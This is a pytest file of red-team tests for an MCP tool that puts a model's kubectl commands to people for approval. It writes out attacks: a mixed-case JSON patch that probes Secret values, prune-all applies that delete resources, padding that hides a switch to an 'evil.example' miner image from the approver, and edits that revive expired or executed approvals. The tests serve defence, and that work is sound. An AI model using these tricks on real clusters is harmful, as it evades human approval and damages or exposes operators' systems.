"""Red-team review after issue #9: attacks on the promises of docs/security.md that still get through.

Each test performs one attack and asserts what the promise says should happen; on the code as reviewed
they fail. The attackers: a prompt-injected model writing the proposal, a calling agent over MCP, and
someone who can write the data directory (sessions/) but not ~/.config/operate-mcp.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from operate_mcp.approvers import mark_executed
from operate_mcp.config import Settings
from operate_mcp.governance.approval import ApprovalError
from operate_mcp.governance.risk import assess_risk
from operate_mcp.kube.classifier import classify_command
from operate_mcp.kube.runner import Kubectl
from operate_mcp.model.command import CommandClass, ProposedCommand
from operate_mcp.model.proposal import RiskTier
from operate_mcp.model.session import SessionStatus
from operate_mcp.workflows.decide import record_approval, valid_approvals
from operate_mcp.workflows.display import approval_question
from operate_mcp.workflows.execute import preflight
from operate_mcp.workflows.operate import OperateDeps
from operate_mcp.workflows.sessions import SessionStore
from support.approvers import ALICE, approve_signed, enrol
from support.sessions import local_settings, new_session

SET_IMAGE = ["kubectl", "set", "image", "deployment/web", "web=nginx:1.27.0", "-n", "shop"]
DEPLOYMENT = """apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec: {}
"""


@pytest.fixture
def settings(tmp_path) -> Settings:
    return local_settings(tmp_path)


@pytest.fixture
def store(settings) -> SessionStore:
    return SessionStore(settings.data_dir)


# --------------------------------------------------------------------------- (a) the model's proposal


@pytest.mark.parametrize("spelling", ["--type=JSON", "--type=Json", "--type=jSoN"])
@pytest.mark.parametrize(
    "op",
    [
        {"op": "test", "path": "/data/pin", "value": "NDcxMQ=="},
        {"op": "copy", "from": "/data/pin", "path": "/metadata/annotations/x"},
        {"op": "move", "from": "/data/pin", "path": "/type"},
    ],
)
def test_redteam_json_patch_type_in_upper_case_still_refuses_read_operations(spelling, op):
    """kubectl lower-cases --type (`--type=JSON` is a JSON patch), but the classifier only checks the
    operations when the value is exactly "json". A proposed `patch secret --type=JSON` with a `test`
    operation passes as mutating, its pre-approval dry-run succeeds or fails with the guess, and the
    failure goes back to the model: an oracle that confirms a Secret's value one guess at a time
    (the reason `test`, `copy` and `move` are refused)."""
    argv = ["kubectl", "patch", "secret", "db", "-n", "shop", spelling, "-p", json.dumps([op])]
    verdict = classify_command(argv, None)
    assert verdict.command_class is CommandClass.FORBIDDEN, verdict.reason


@pytest.mark.parametrize(
    "extra",
    [
        ["--prune", "--all"],
        ["--prune", "--all", "--prune-allowlist=core/v1/Secret"],
        ["--prune", "--all", "--prune-allowlist=core/v1/Namespace"],
    ],
)
def test_redteam_pruning_apply_is_critical_like_any_delete(settings, extra):
    """`kubectl apply -f - --prune --all` deletes every object of the allow-listed kinds (by default also
    Namespaces and PersistentVolumes, cluster-wide) that carries a last-applied annotation and is not in
    the manifest. The promise: deletes, Secrets and cluster-wide changes are critical (two signatures).
    The tier is medium: one self-answered elicitation runs it."""
    cmd = ProposedCommand(argv=["kubectl", "apply", "-f", "-", "-n", "shop", *extra], stdin=DEPLOYMENT, description="d")
    assert classify_command(cmd.argv, cmd.stdin).command_class is CommandClass.MUTATING
    assert assess_risk([cmd], [], [], settings).tier is RiskTier.CRITICAL


def test_redteam_uncordon_by_selector_is_critical_like_any_node_change(settings):
    """Nodes are critical; `uncordon NODE` is, `uncordon -l SELECTOR` (every matching node) is medium,
    because the tier only looks at named targets and at the verbs cordon/drain/taint."""
    cmd = ProposedCommand(argv=["kubectl", "uncordon", "-l", "pool=quarantined"], description="d")
    assert classify_command(cmd.argv, None).command_class is CommandClass.MUTATING
    assert assess_risk([cmd], [], [], settings).tier is RiskTier.CRITICAL


def test_redteam_approval_question_shows_every_argument_of_a_long_command(store):
    """The elicitation text says "These commands will run exactly as shown", but each command is cut at
    2,000 characters. A model pads a patch with a long harmless annotation and puts the change that
    matters (here the image) after it: the person approving never sees it."""
    padding = "x" * 2100
    patch = json.dumps(
        {
            "metadata": {"annotations": {"note": padding}},
            "spec": {"template": {"spec": {"containers": [{"name": "web", "image": "evil.example/miner:1"}]}}},
        }
    )
    argv = ["kubectl", "patch", "deployment", "web", "-n", "shop", "-p", patch]
    session = new_session(store, [argv], RiskTier.MEDIUM)
    assert "evil.example/miner" in approval_question(session)


# --------------------------------------------------------------------------- (d) a writer of the data dir


def test_redteam_restamped_signed_approval_does_not_outlive_its_sla(store, settings):
    """A `cli` approval's signature covers (session, version, digest, tier), not its time `at`: someone who
    can write sessions/ moves `at` forward and an approval that expired counts again, for ever."""
    key = enrol(settings.approvers_dir, "alice", ALICE)
    session = new_session(store, [SET_IMAGE], RiskTier.MEDIUM)
    approve_signed(store, session.id, settings, "alice", key)
    later = datetime.now(UTC) + timedelta(days=30)
    assert valid_approvals(store.load(session.id), settings, now=later) == []  # expired, as designed
    edited = store.load(session.id)
    edited.approvals[0].at = later - timedelta(seconds=5)  # the data-dir writer re-stamps it
    store.save(edited)
    assert valid_approvals(store.load(session.id), settings, now=later) == [], "a re-stamped approval counted"


def test_redteam_executed_session_set_back_to_approved_does_not_run_again(store, settings):
    """'A session runs at most once' rests on `status` in the session file. Someone who can write the data
    dir sets an executed session back to `approved` (and clears what it observed, so no drift): its real,
    still-valid approvals let the same commands run a second time without anyone approving again."""
    session = new_session(store, [SET_IMAGE], RiskTier.MEDIUM)
    record_approval(store, session.id, approver="agent via MCP client x", method="elicitation", settings=settings)
    mark_executed(settings, session.id, session.proposal.digest)  # what execute() does as it starts
    store.transition(session.id, SessionStatus.EXECUTING, actor="agent", expected={SessionStatus.APPROVED})
    store.transition(session.id, SessionStatus.EXECUTED_SUCCESSFULLY, actor="agent")
    edited = store.load(session.id)
    edited.status = SessionStatus.APPROVED
    edited.outcomes = []
    edited.proposal.observed_objects = []
    store.save(edited)
    deps = OperateDeps(settings=settings, kubectl=Kubectl(settings), provider=None, sessions=store)
    with pytest.raises(ApprovalError):
        preflight(deps, session.id)
